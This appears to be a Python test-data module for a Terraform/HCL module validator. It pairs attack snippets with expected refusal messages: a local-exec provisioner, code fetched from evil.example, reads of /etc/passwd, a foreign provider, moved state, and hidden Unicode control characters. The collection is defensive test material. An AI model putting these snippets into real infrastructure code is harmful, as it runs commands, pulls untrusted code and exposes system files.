"""What the author of a module may try, as data: the code, and a word of the refusal."""

from collections.abc import Mapping

DATA = 'resource "terraform_data" "attack" {{\n  input = {}\n}}\n'
CODE: Mapping[str, tuple[str, str]] = {
    "runs a program at apply (provisioner)": (
        'resource "terraform_data" "attack" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        "attack.tf:2: a provisioner runs programs",
    ),
    "runs a program at plan (data external)": ('data "external" "x" {}\n', "attack.tf:1: data 'external'"),
    "calls home at plan (data http)": ('data "http" "x" {}\n', "attack.tf:1: data 'http'"),
    "reads another state": ('data "terraform_remote_state" "x" {}\n', "attack.tf:1: data 'terraform_remote_state'"),
    "writes a file (local_file)": ('resource "local_file" "x" {}\n', "attack.tf:1: resource type 'local_file'"),
    "brings a provider of its own": (
        'terraform {\n  required_providers {\n    evil = { source = "evil/evil" }\n  }\n}\n',
        "attack.tf:3: provider 'evil'",
    ),
    "configures a provider": ('provider "aws" {\n  profile = "admin"\n}\n', "attack.tf:1: providers are configured"),
    "moves the state away (backend)": ('terraform {\n  backend "http" {}\n}\n', "attack.tf:2: where a state lies"),
    "moves the state away (cloud)": ("terraform {\n  cloud {}\n}\n", "attack.tf:2: where a state lies"),
    "takes what is not its own (import)": ("import {}\n", "attack.tf:1: what belongs to a stack"),
    "lets go of what holds data (removed)": ("removed {}\n", "attack.tf:1: what belongs to a stack"),
    "fetches code (module from git)": (
        'module "x" {\n  source = "git::https://evil.example/x"\n}\n',
        "attack.tf:2: a module's source must be a relative path",
    ),
    "calls code outside of its folder": (
        'module "x" {\n  source = "../../db/1.0.0"\n}\n',
        'attack.tf:2: "../../db/1.0.0" is no folder with code inside the module',
    ),
    "reads a file of the machine": (DATA.format('file("/etc/passwd")'), "attack.tf:2: file(…): it reads files"),
    "reads a file in a text": (DATA.format('"${file("/etc/passwd")}"'), "attack.tf:2: file(…): it reads files"),
    "reads a file in a heredoc": (
        DATA.format('<<EOT\n${file("/etc/passwd")}\nEOT\n'),
        "attack.tf:3: file(…): it reads",
    ),
    "reads a file that a request names": (DATA.format("file(var.text)"), "attack.tf:2: file(…): it reads files"),
    "runs a request's text as a template": (
        DATA.format("templatestring(var.text, {})"),
        "attack.tf:2: templatestring(…) is none of the functions",
    ),
    "hides code from one reader": (
        'locals {\n  a = "$${"\n  b = upper("x")\n  c = "}"\n}\n',
        "attack.tf:1: two readers differ",
    ),
    "hides code behind a line end that few see": ("# x\u2028import {}\n", "attack.tf:1: U+2028 can't be seen"),
    "hides code by turning its direction": ("# \u202e }\n", "attack.tf:1: U+202E can't be seen"),
    "is no HCL": ("resource {\n", "attack.tf:2: this is not HCL"),
}
FILES: Mapping[str, tuple[str, str]] = {
    "brings code that no check sees (.tf.json)": ("more.tf.json", "is code that no check sees"),
    "brings code that only OpenTofu reads": ("more.tofu", "is code that no check sees"),
    "changes other code (override)": ("more_override.tf", "is code that no check sees"),
}
